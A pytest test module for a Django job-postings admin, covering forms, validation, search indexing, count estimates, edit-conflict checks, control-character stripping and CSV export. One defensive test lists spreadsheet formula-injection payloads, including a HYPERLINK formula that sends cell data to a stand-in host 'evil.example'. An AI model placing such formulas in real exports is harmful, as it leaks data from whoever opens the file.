import csv
import io
import re
from decimal import Decimal

import pytest
from django.contrib.admin import ModelAdmin, site
from django.db import connection
from django.db.models import Q
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jobs.admin import OWN_SEARCH_FIELDS, EstimatedCountPaginator, PostingAdmin, distinct_values
from jobs.models import Company, Posting, Tag
from tests.admin_forms import change_form_data
from tests.factories import CompanyFactory, PostingFactory, TagFactory

pytestmark = pytest.mark.django_db


def inline_management(prefix, total):
    return {f"{prefix}-TOTAL_FORMS": str(total), f"{prefix}-INITIAL_FORMS": "0"}


def test_admin_add_view_creates_a_posting_with_its_items(admin_client):
    company = CompanyFactory()
    tag = TagFactory()
    data = {
        "company": company.pk,
        "language": "fr",
        "title": "Développeuse backend",
        "slug": "developpeuse-backend",
        "summary": "Vous construisez nos services.",
        "employment_type": "full_time",
        "seniority": "mid",
        "experience_years": "2",
        "experience_years_max": "4",
        "tags": [tag.pk],
        "workplace": "remote",
        "city": "Lyon",
        "country": "FR",
        "eligible_countries": ["FR", "BE"],
        "salary_min": "45000",
        "salary_max": "55000",
        "salary_currency": "EUR",
        "salary_period": "year",
        "salary_basis": "gross",
        "apply_email": "jobs@example.com",
        "status": "published",
        "published_at_0": "2026-01-05",
        "published_at_1": "09:00:00",
        "translation_group": "7b0a4c1e-2f65-4a55-9a36-2a3c5e7d9f10",
        **inline_management("responsibilities", 1),
        "responsibilities-0-position": "1",
        "responsibilities-0-kind": "primary",
        "responsibilities-0-text": "Concevoir l'API",
        **inline_management("requirements", 2),
        "requirements-0-position": "1",
        "requirements-0-kind": "technical_skill",
        "requirements-0-priority": "required",
        "requirements-0-text": "Python",
        "requirements-1-position": "2",
        "requirements-1-kind": "soft_skill",
        "requirements-1-priority": "preferred",
        "requirements-1-text": "Curiosité",
        **inline_management("benefits", 2),
        "benefits-0-position": "2",
        "benefits-0-text": "Télétravail",
        "benefits-1-position": "1",
        "benefits-1-text": "Mutuelle",
        **inline_management("career_steps", 0),
        **inline_management("other_offices", 0),
        **inline_management("working_languages", 0),
    }

    response = admin_client.post(reverse("admin:jobs_posting_add"), data)

    assert response.status_code == 302, response.context["adminform"].form.errors if response.context else response
    posting = Posting.objects.get(slug="developpeuse-backend")
    assert posting.language == "fr"
    assert [str(c) for c in posting.eligible_countries] == ["BE", "FR"]
    assert [(r.kind, r.priority, r.text) for r in posting.requirements.all()] == [
        ("technical_skill", "required", "Python"),
        ("soft_skill", "preferred", "Curiosité"),
    ]
    assert (posting.experience_years, posting.experience_years_max) == (2, 4)
    assert [b.text for b in posting.benefits.all()] == ["Mutuelle", "Télétravail"]
    assert list(posting.tags.all()) == [tag]


def new_posting_data(company, **changes):
    """The add form of a minimal draft, changed by `changes`."""
    return {
        "company": company.pk,
        "language": "en",
        "title": "Analyst",
        "slug": "analyst",
        "summary": "Numbers.",
        "employment_type": "full_time",
        "seniority": "mid",
        "workplace": "onsite",
        "country": "DE",
        "salary_basis": "gross",
        "status": "draft",
        "translation_group": "2b0a4c1e-2f65-4a55-9a36-2a3c5e7d9f10",
        **inline_management("responsibilities", 0),
        **inline_management("requirements", 0),
        **inline_management("benefits", 0),
        **inline_management("career_steps", 0),
        **inline_management("other_offices", 0),
        **inline_management("working_languages", 0),
        **changes,
    }


def test_a_fully_remote_role_is_saved_without_an_office(admin_client):
    data = new_posting_data(CompanyFactory(), workplace="remote", city="", country="", eligible_countries=["FR", "PT"])

    response = admin_client.post(reverse("admin:jobs_posting_add"), data)

    assert response.status_code == 302
    posting = Posting.objects.get()
    assert (posting.country, posting.work_country_codes()) == ("", {"FR", "PT"})


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"country": ""}, "Give the office&#x27;s country: only a fully remote role needs no office."),
        (
            {"workplace": "remote", "country": ""},
            "Give the countries candidates may work from, since the role has no office.",
        ),
    ],
)
def test_a_role_needs_an_office_country_unless_fully_remote_and_then_countries_to_work_from(
    admin_client, changes, message
):
    response = admin_client.post(reverse("admin:jobs_posting_add"), new_posting_data(CompanyFactory(), **changes))

    assert response.status_code == 200
    assert message in response.text
    assert not Posting.objects.exists()


def test_the_admin_says_that_a_fully_remote_role_needs_no_office(admin_client):
    response = admin_client.get(reverse("admin:jobs_posting_add"))

    assert "A fully remote role needs no office" in response.text


def test_the_chosen_countries_and_tags_are_listed_first_as_checked_boxes(admin_client):
    tags = [TagFactory(name=name, slug=name.lower()) for name in ["Go", "Python", "Rust"]]
    posting = PostingFactory(workplace="remote", country="", eligible_countries=["PT", "FR"], tags=[tags[2]])

    page = admin_client.get(reverse("admin:jobs_posting_change", args=[posting.pk])).text

    def boxes(name):
        return re.findall(rf'<input type="checkbox" name="{name}" value="(\w+)"[^>]*?( checked)?>', page)

    assert boxes("eligible_countries")[:3] == [("FR", " checked"), ("PT", " checked"), ("AF", "")]
    assert boxes("tags") == [(str(tags[2].pk), " checked"), (str(tags[0].pk), ""), (str(tags[1].pk), "")]


def test_admin_rejects_a_salary_without_currency(admin_client):
    company = CompanyFactory()
    data = {
        "company": company.pk,
        "language": "en",
        "title": "Analyst",
        "slug": "analyst",
        "summary": "Numbers.",
        "employment_type": "full_time",
        "seniority": "mid",
        "workplace": "onsite",
        "country": "DE",
        "salary_min": "40000",
        "status": "draft",
        "translation_group": "2b0a4c1e-2f65-4a55-9a36-2a3c5e7d9f10",
        **inline_management("responsibilities", 0),
        **inline_management("requirements", 0),
        **inline_management("benefits", 0),
        **inline_management("career_steps", 0),
        **inline_management("other_offices", 0),
        **inline_management("working_languages", 0),
    }

    response = admin_client.post(reverse("admin:jobs_posting_add"), data)

    assert response.status_code == 200
    assert "Give the currency of the salary." in response.text
    assert not Posting.objects.exists()


@pytest.mark.parametrize(
    ("query", "listed"),
    [
        ("", {"Backend engineer", "Designer"}),
        ("?language__exact=fr", {"Designer"}),
        ("?workplace__exact=remote", {"Designer"}),
        ("?country__exact=DE", {"Backend engineer"}),
        ("?q=engineer", {"Backend engineer"}),
        ("?q=northwind", {"Designer"}),
    ],
)
def test_admin_posting_list_with_filters_and_search(admin_client, query, listed):
    PostingFactory(title="Backend engineer", country="DE", workplace="hybrid")
    PostingFactory(title="Designer", language="fr", country="FR", remote=True, company=CompanyFactory(name="Northwind"))

    response = admin_client.get(reverse("admin:jobs_posting_changelist") + query)

    assert response.status_code == 200
    assert {posting.title for posting in response.context["cl"].result_list} == listed


@pytest.fixture
def postgresql():
    if connection.vendor != "postgresql":
        pytest.skip("trigram indexes and the planner's row estimates are PostgreSQL's")


def changelist_titles(admin_client, **query):
    response = admin_client.get(reverse("admin:jobs_posting_changelist"), query)
    return sorted(posting.title for posting in response.context["cl"].result_list)


def test_admin_search_wants_every_word_in_a_field_of_the_posting_or_its_companys_name(admin_client):
    robotics = CompanyFactory(name="Acme Robotics")
    PostingFactory(company=robotics, title="Backend engineer")
    PostingFactory(company=robotics, title="Designer")
    PostingFactory(title="Backend developer", city="Lyon")
    PostingFactory(title="Nurse", city="Lyon")

    assert changelist_titles(admin_client, q="robotics backend") == ["Backend engineer"]
    assert changelist_titles(admin_client, q='"acme robotics"') == ["Backend engineer", "Designer"]
    assert changelist_titles(admin_client, q="lyon") == ["Backend developer", "Nurse"]
    assert changelist_titles(admin_client, q="backend-developer") == ["Backend developer"]


def planned(queryset):
    """The plan of `queryset`: on a table this small a full read is cheapest; forbidden it, the planner reads
    whatever indexes can serve."""
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off; SET LOCAL enable_indexscan = off")
    return queryset.explain()


def searched(admin_client, term):
    return admin_client.get(reverse("admin:jobs_posting_changelist"), {"q": term}).context["cl"].queryset


def test_admin_search_reads_the_index_of_the_postings_words(admin_client, postgresql):
    PostingFactory(title="Backend engineer")

    plan = planned(searched(admin_client, "engineer"))

    assert "posting_words_idx" in plan and "_trgm" not in plan


@pytest.mark.parametrize("term", ["en", '"backend engineer"'])
def test_admin_search_for_a_term_too_short_for_trigrams_or_with_a_space_reads_the_trigram_indexes(
    admin_client, postgresql, term
):
    PostingFactory(title="Backend engineer")

    plan = planned(searched(admin_client, term))

    assert "posting_title_trgm" in plan and "posting_summary_trgm" in plan
    assert "posting_words_idx" not in plan


def test_admin_search_for_a_term_in_many_words_reads_the_trigram_indexes(admin_client, postgresql, monkeypatch):
    monkeypatch.setattr(PostingAdmin, "WORDS_READ", 1)
    PostingFactory(title="Backend engineer", summary="Engineering")

    assert "posting_title_trgm" in planned(searched(admin_client, "engineer"))
    assert changelist_titles(admin_client, q="engineer") == ["Backend engineer"]


# Columns of postings the admin searches: cases, accents, punctuation, tabs and line breaks, words in words.
WORDY = [
    ("Senior Backend-Engineer (m/w/d)", "Développez nos APIs REST\tet l'interopérabilité.\nRemote-first.", "Köln"),
    ("C++ developer at Straße & Co.", "Tools for node.js, PostgreSQL and ÜNÏCÖDÉ text; 100% remote.", "São Paulo"),
    ("Restaurant manager", "An interest in forests and prestige", ""),
]
WORDY_TEXTS = [text for columns in WORDY for text in columns if text]
# A term: a piece of one of those columns (some hold spaces), or a few letters, marks or spaces.
wordy_terms = st.one_of(
    st.tuples(st.sampled_from(WORDY_TEXTS), st.integers(0, 60), st.integers(1, 12)).map(
        lambda piece: piece[0][piece[1] : piece[1] + piece[2]]
    ),
    st.text(alphabet="aeinorstéÉüß+-.%_' ", min_size=1, max_size=6),
)


@pytest.fixture
def wordy_postings(postgresql):
    for title, summary, city in WORDY:
        PostingFactory(title=title, summary=summary, city=city)
    Posting.objects.filter(city="").update(title="Restaurant manager, Lyon")  # an edit's words are indexed too


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(term=wordy_terms)
def test_admin_search_by_words_finds_the_postings_whose_columns_hold_the_term(wordy_postings, term):
    columns = Q(*(Q(**{f"{name}__icontains": term}) for name in OWN_SEARCH_FIELDS), _connector=Q.OR)
    by_words = site._registry[Posting].own_columns_holding(term, "default")

    assert set(Posting.objects.filter(by_words)) == set(Posting.objects.filter(columns))


def test_a_posting_with_a_run_longer_than_an_index_entry_is_saved_and_found_by_its_other_words(
    admin_client, postgresql
):
    PostingFactory(title="Welder", summary=f"Read {'x' * 5000} and apply")

    assert changelist_titles(admin_client, q="apply") == ["Welder"]


@pytest.mark.parametrize("language", ["en", "fr"])
def test_the_posting_lists_checkboxes_are_djangos_markup(language):
    posting = PostingFactory(title='Tom & Jerry "quoted" <b>', items=False)
    posting_admin = site._registry[Posting]

    with translation.override(language):
        assert posting_admin.action_checkbox(posting) == ModelAdmin.action_checkbox(posting_admin, posting)


def test_admin_list_counts_exactly_below_the_threshold(admin_client):
    PostingFactory.create_batch(3)

    response = admin_client.get(reverse("admin:jobs_posting_changelist"))

    assert not response.context["cl"].paginator.estimated
    assert "3 postings" in response.text
    assert "estimate" not in response.text


def test_admin_list_counts_no_further_than_the_threshold_then_estimates(admin_client, postgresql, monkeypatch):
    monkeypatch.setattr(EstimatedCountPaginator, "EXACT_COUNT", 2)
    PostingFactory.create_batch(4)

    with CaptureQueriesContext(connection) as queries:
        response = admin_client.get(reverse("admin:jobs_posting_changelist"))

    counted = [query["sql"] for query in queries if query["sql"].startswith('SELECT "jobs_posting"."id" AS "pk"')]
    assert counted and all(sql.endswith("LIMIT 3") for sql in counted)
    assert not [query["sql"] for query in queries if "COUNT(" in query["sql"]]
    assert len(response.context["cl"].result_list) == 4
    assert response.context["cl"].paginator.estimated
    assert f"{response.context['cl'].result_count} postings" in response.text
    assert "The number of postings is an estimate." in response.text


def searches_of(queries):
    """The queries that read postings by the admin search's condition (counts included)."""
    return [
        sql
        for query in queries
        if 'FROM "jobs_posting"' in (sql := query["sql"]) and "&&" in sql and not sql.startswith("EXPLAIN")
    ]


def test_admin_search_that_finds_a_page_or_less_searches_once(admin_client, postgresql):
    PostingFactory(title="Rare welder")
    PostingFactory(title="Rare glazier")
    PostingFactory(title="Nurse")

    with CaptureQueriesContext(connection) as queries:
        response = admin_client.get(reverse("admin:jobs_posting_changelist"), {"q": "rare"})

    [search, by_key] = searches_of(queries)
    assert "LIMIT 1001" in search and '"jobs_posting"."id" IN (' in by_key
    assert not response.context["cl"].paginator.estimated
    assert [posting.title for posting in response.context["cl"].result_list] == ["Rare glazier", "Rare welder"]
    assert "2 postings" in response.text


def test_admin_search_over_a_page_counts_then_reads_the_page(admin_client, postgresql, monkeypatch):
    monkeypatch.setattr(PostingAdmin, "list_per_page", 2)
    for title in ["Rare welder", "Rare glazier", "Rare roofer"]:
        PostingFactory(title=title)

    for page, titles in [(1, ["Rare roofer", "Rare glazier"]), (2, ["Rare welder"])]:
        response = admin_client.get(reverse("admin:jobs_posting_changelist"), {"q": "rare", "p": page})

        assert "3 postings" in response.text
        assert [posting.title for posting in response.context["cl"].result_list] == titles


def test_admin_list_takes_a_large_estimate_without_counting(admin_client, postgresql, monkeypatch):
    monkeypatch.setattr(EstimatedCountPaginator, "TRUSTED_ESTIMATE", 1)
    PostingFactory.create_batch(3)

    with CaptureQueriesContext(connection) as queries:
        response = admin_client.get(reverse("admin:jobs_posting_changelist"), {"q": "engineer"})

    assert not [query["sql"] for query in queries if "COUNT(" in query["sql"]]
    assert response.context["cl"].paginator.estimated
    assert "The number of postings is an estimate." in response.text


def test_distinct_values_are_the_values_in_use_in_order():
    for country in ["FR", "DE", "JP", "DE"]:
        PostingFactory(country=country)

    assert distinct_values(Posting.objects.all(), "country") == ["DE", "FR", "JP"]
    assert distinct_values(Posting.objects.exclude(country="FR"), "country") == ["DE", "JP"]
    assert distinct_values(Posting.objects.none(), "country") == []


def test_admin_tag_form_stores_a_name_per_language(admin_client):
    data = {
        "name": "Backend development",
        "slug": "backend",
        "name_fr": "Développement backend",
        "name_de": "",
        "name_es": "Desarrollo backend",
    }

    response = admin_client.post(reverse("admin:jobs_tag_add"), data)

    assert response.status_code == 302
    tag = Tag.objects.get(slug="backend")
    assert tag.translated_names == {"fr": "Développement backend", "es": "Desarrollo backend"}
    assert tag.label("fr") == "Développement backend"
    assert tag.label("de") == "Backend development"


def test_the_tag_list_shows_each_tags_translations(admin_client):
    TagFactory(name="Backend", translated_names={"fr": "Développement backend", "es": "Desarrollo backend"})

    response = admin_client.get(reverse("admin:jobs_tag_changelist"))

    assert '<td class="field-translations">es: Desarrollo backend, fr: Développement backend</td>' in response.text


def change_page(client, posting):
    return client.get(reverse("admin:jobs_posting_change", args=[posting.pk]))


def save(client, posting, data):
    return client.post(reverse("admin:jobs_posting_change", args=[posting.pk]), data)


def errors_of(response):
    form = response.context["adminform"].form
    return {field: [str(error) for error in errors] for field, errors in form.errors.items()}


def test_an_unchanged_form_saves_and_gives_the_posting_a_new_version(admin_client):
    posting = PostingFactory()
    version = posting.version

    response = save(admin_client, posting, change_form_data(change_page(admin_client, posting)))

    assert response.status_code == 302
    posting.refresh_from_db()
    assert posting.version != version
    assert posting.requirements.count() == 5


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"salary_min": "95000", "salary_max": "90000"}, "__all__", "The salary minimum cannot be above the maximum."),
        ({"salary_currency": ""}, "salary_currency", "Give the currency of the salary."),
        ({"salary_period": ""}, "salary_period", "Say whether the salary is per hour, day, month or year."),
        ({"salary_min": "-1"}, "salary_min", "A salary cannot be negative."),
        # In Switzerland, where an ad need not state its pay.
        ({"salary_max": "-1", "salary_min": "", "country": "CH"}, "salary_max", "A salary cannot be negative."),
        (
            {"valid_through_0": "2020-01-01", "valid_through_1": "00:00:00"},
            "valid_through",
            "The expiry must come after the publish date.",
        ),
        (
            {"apply_url": "", "apply_email": ""},
            "apply_url",
            "Give an application URL or e-mail address before publishing.",
        ),
    ],
)
def test_the_admin_explains_what_is_wrong_and_saves_nothing(admin_client, changes, field, message):
    posting = PostingFactory()
    before = Posting.objects.values().get(pk=posting.pk)
    data = change_form_data(change_page(admin_client, posting)) | changes

    response = save(admin_client, posting, data)

    assert response.status_code == 200
    assert errors_of(response) == {field: [message]}
    assert message in response.text
    assert Posting.objects.values().get(pk=posting.pk) == before


def test_a_draft_may_have_no_way_to_apply_yet(admin_client):
    posting = PostingFactory(draft=True)
    data = change_form_data(change_page(admin_client, posting)) | {"apply_url": "", "apply_email": ""}

    assert save(admin_client, posting, data).status_code == 302


def test_an_expiry_before_now_is_refused_when_publishing_without_a_date(admin_client):
    posting = PostingFactory(draft=True)
    data = change_form_data(change_page(admin_client, posting)) | {
        "status": "published",
        "valid_through_0": "2020-01-01",
        "valid_through_1": "00:00:00",
    }

    response = save(admin_client, posting, data)

    assert errors_of(response)["valid_through"] == ["The expiry must come after the publish date."]


def test_items_are_saved_in_the_order_of_their_positions(admin_client):
    posting = PostingFactory()
    data = change_form_data(change_page(admin_client, posting))
    # Move the last of the five requirements to the top.
    for index in range(5):
        data[f"requirements-{index}-position"] = str(index + 2)
    data["requirements-4-position"] = "1"

    save(admin_client, posting, data)

    texts = [item.text for item in posting.requirements.all()]
    assert texts == ["Requirement 5", "Requirement 1", "Requirement 2", "Requirement 3", "Requirement 4"]


def test_a_new_item_without_a_position_goes_last_and_empty_rows_are_ignored(admin_client):
    posting = PostingFactory()
    data = change_form_data(change_page(admin_client, posting))
    extra = data["benefits-TOTAL_FORMS"]
    data |= {
        f"benefits-{extra}-text": "Bike leasing",
        f"benefits-{extra}-position": "",
        "benefits-TOTAL_FORMS": str(int(extra) + 2),
    }

    response = save(admin_client, posting, data)

    assert response.status_code == 302
    assert [(item.position, item.text) for item in posting.benefits.all()] == [
        (1, "Benefit 1"),
        (2, "Benefit 2"),
        (3, "Benefit 3"),
        (4, "Bike leasing"),
    ]


def test_the_change_page_lists_what_a_good_posting_still_lacks(admin_client):
    posting = PostingFactory(unfinished=True, workplace="remote", items=False)

    response = change_page(admin_client, posting)

    gaps = re.search(r'<ul class="readiness-gaps">(.*?)</ul>', response.text, re.DOTALL).group(1)
    for missing in [
        "Job ads for Germany must state the pay",
        "An expiry date",
        "Responsibilities",
        "Requirements",
        "Benefits",
        "The countries candidates may work from",
        "A translation.",
    ]:
        assert missing in gaps
    assert reverse("admin:jobs_posting_translate", args=[posting.pk]) in gaps


def test_a_complete_posting_lacks_nothing(admin_client):
    posting = PostingFactory(remote=True)
    PostingFactory(language="fr", translation_group=posting.translation_group)

    response = change_page(admin_client, posting)

    assert "Nothing: this posting has everything a good posting has." in response.text
    assert '<div class="readonly">Published</div>' in response.text


def test_a_save_based_on_an_older_version_is_refused_and_keeps_both_edits(admin_client, admin_user):
    posting = PostingFactory(title="Backend engineer")
    mine = change_form_data(change_page(admin_client, posting))
    theirs = dict(mine)

    theirs |= {"title": "Senior backend engineer", "requirements-0-text": "Go"}
    assert save(admin_client, posting, theirs).status_code == 302
    mine |= {"title": "Backend developer", "summary": "My new summary."}
    response = save(admin_client, posting, mine)

    assert response.status_code == 200
    message = str(response.context["adminform"].form.non_field_errors()[0])
    assert f"{admin_user.username} saved this posting on" in message
    assert "Your changes are not saved yet, and theirs are kept." in message
    # My input is still on the form, to be copied over.
    assert 'value="Backend developer"' in response.text
    assert "My new summary." in response.text
    posting.refresh_from_db()
    assert posting.title == "Senior backend engineer"
    assert posting.summary != "My new summary."
    assert posting.requirements.first().text == "Go"


def test_a_change_to_items_alone_also_refuses_older_versions(admin_client):
    posting = PostingFactory()
    mine = change_form_data(change_page(admin_client, posting))

    theirs = mine | {"benefits-0-DELETE": "on"}
    assert save(admin_client, posting, theirs).status_code == 302
    response = save(admin_client, posting, mine | {"title": "Mine"})

    assert response.status_code == 200
    assert response.context["adminform"].form.non_field_errors()
    assert posting.benefits.count() == 2
    assert Posting.objects.get(pk=posting.pk).title != "Mine"


def test_a_save_over_a_change_made_outside_the_admin_is_refused_too(admin_client):
    posting = PostingFactory()
    mine = change_form_data(change_page(admin_client, posting))
    posting.title = "Changed by a script"
    posting.save()

    response = save(admin_client, posting, mine | {"title": "Mine"})

    assert response.status_code == 200
    [message] = errors_of(response)["__all__"]
    assert message.startswith("Someone else has saved this posting since you opened it.")
    assert Posting.objects.get(pk=posting.pk).title == "Changed by a script"


def test_the_version_check_locks_the_posting_until_the_save_is_done(admin_client):
    if not connection.features.has_select_for_update:
        pytest.skip(f"{connection.vendor} has no row locks (SELECT … FOR UPDATE): it serialises every write")
    posting = PostingFactory()
    data = change_form_data(change_page(admin_client, posting))

    with CaptureQueriesContext(connection) as queries:
        save(admin_client, posting, data)

    assert any("FOR UPDATE" in query["sql"] for query in queries)


def test_text_pasted_into_the_posting_form_and_its_items_loses_its_control_characters(admin_client):
    posting = PostingFactory()
    data = change_form_data(change_page(admin_client, posting)) | {
        "title": "Data\x0bengineer\x01",
        "slug": "data-engineer\x1b",
        "summary": "Run\x0cthe platform.\x00\ufffe",
        "apply_url": "https://example.com/apply\x7f",
        "requirements-0-text": "Python\x0b3\x9b",
    }

    response = save(admin_client, posting, data)

    assert response.status_code == 302
    posting.refresh_from_db()
    assert (posting.title, posting.slug, posting.summary, posting.apply_url) == (
        "Data engineer",
        "data-engineer",
        "Run\nthe platform.",
        "https://example.com/apply",
    )
    # Word's manual line break became a line break, and a row of several lines becomes an item per line.
    assert [item.text for item in posting.requirements.all()][:2] == ["Python", "3"]


def test_tag_and_company_names_lose_their_control_characters(admin_client):
    tag = {"name": "Data\x0bscience", "slug": "data\x01", "name_fr": "Données\x1b", "name_de": "\x0c", "name_es": ""}
    company = {"name": "North\x0cwind\x01", "slug": "northwind", "city": "Ber\x7flin", "country": ""}
    company |= {
        **inline_management("descriptions", 1),
        "descriptions-0-language": "en",
        "descriptions-0-text": "We\x0bbuild\x01",
    }

    assert admin_client.post(reverse("admin:jobs_tag_add"), tag).status_code == 302
    assert admin_client.post(reverse("admin:jobs_company_add"), company).status_code == 302

    assert Tag.objects.values_list("slug", "name", "translated_names").get() == (
        "data",
        "Data science",
        {"fr": "Données"},
    )
    assert Company.objects.values_list("name", "city").get() == ("North wind", "Berlin")
    assert Company.objects.get().description_in("en").text == "We\nbuild"


def exported_rows(client, postings):
    data = {"action": "export_csv", "_selected_action": [posting.pk for posting in postings]}
    response = client.post(reverse("admin:jobs_posting_changelist"), data)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_the_csv_export_keeps_text_that_starts_like_a_formula_from_running(admin_client, formula):
    posting = PostingFactory(title=formula, company=CompanyFactory(name=formula), city=formula, salary_min=5)

    [row] = exported_rows(admin_client, [posting])

    assert row["title"] == row["company"] == row["city"] == f"'{formula}"
    assert (row["salary minimum"], row["salary maximum"]) == ("5.00", "90000.00")


def test_the_csv_export_leaves_ordinary_text_and_numbers_as_they_are(admin_client):
    posting = PostingFactory(title='Engineer, "platform" = fun', city="Köln", salary_min=Decimal("70000.50"))

    [row] = exported_rows(admin_client, [posting])

    assert (row["title"], row["city"], row["salary minimum"]) == ('Engineer, "platform" = fun', "Köln", "70000.50")


def test_admin_search_for_a_term_no_posting_holds_finds_none_without_reading_postings(admin_client, postgresql):
    PostingFactory(title="Backend engineer", company=CompanyFactory(name="Acme"))

    with CaptureQueriesContext(connection) as queries:
        assert changelist_titles(admin_client, q="zyxwv") == []

    # Neither the postings' columns nor their words are read.
    assert not [
        query for query in queries if 'UPPER("jobs_posting".' in query["sql"] or "jobs_posting_words(" in query["sql"]
    ]
    assert changelist_titles(admin_client, q="zyxwv acme") == []
    assert changelist_titles(admin_client, q="acme") == ["Backend engineer"]


def test_admin_search_for_a_term_many_postings_hold_reads_the_trigram_indexes(admin_client, postgresql, monkeypatch):
    monkeypatch.setattr(PostingAdmin, "WORDS_FOUND", 0)
    PostingFactory.create_batch(3, title="Backend engineer")

    assert "posting_title_trgm" in planned(searched(admin_client, "engineer"))
    assert len(changelist_titles(admin_client, q="engineer")) == 3
